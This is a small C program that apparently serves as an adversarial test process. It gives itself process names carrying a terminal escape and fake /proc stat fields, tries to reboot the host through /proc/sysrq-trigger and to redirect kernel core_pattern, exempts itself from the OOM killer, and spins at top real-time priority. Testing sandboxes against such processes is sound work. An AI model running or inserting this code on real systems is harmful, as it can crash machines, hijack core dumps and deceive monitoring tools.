#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <unistd.h>

static void Put(const char* path, const char* text) {
  const int fd = open(path, O_WRONLY);
  if (fd < 0) return;
  if (write(fd, text, strlen(text)) < 0) close(fd);
}

int main(int argc, char** argv) {
  (void)argc;
  prctl(PR_SET_DUMPABLE, 0);
  prctl(PR_SET_NAME, "a) R 1 (\033[2J\n");
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  prctl(PR_SET_CHILD_SUBREAPER, 1);
  memset(argv[0], '\n', strlen(argv[0]));
  Put("/proc/self/oom_score_adj", "-1000");
  Put("/proc/self/comm", "x) Z 0 0");
  Put("/proc/sysrq-trigger", "b");
  Put("/proc/sys/kernel/core_pattern", "|/work/pipe");
  setpriority(PRIO_PROCESS, 0, -20);
  const struct sched_param most = {99};
  sched_setscheduler(0, SCHED_FIFO, &most);
  int ends[2];
  if (pipe(ends) != 0) return 1;
  if (fork() == 0) {
    char c;
    return (int)read(ends[0], &c, 1);
  }
  for (;;) {
    __asm__ volatile("");
  }
}
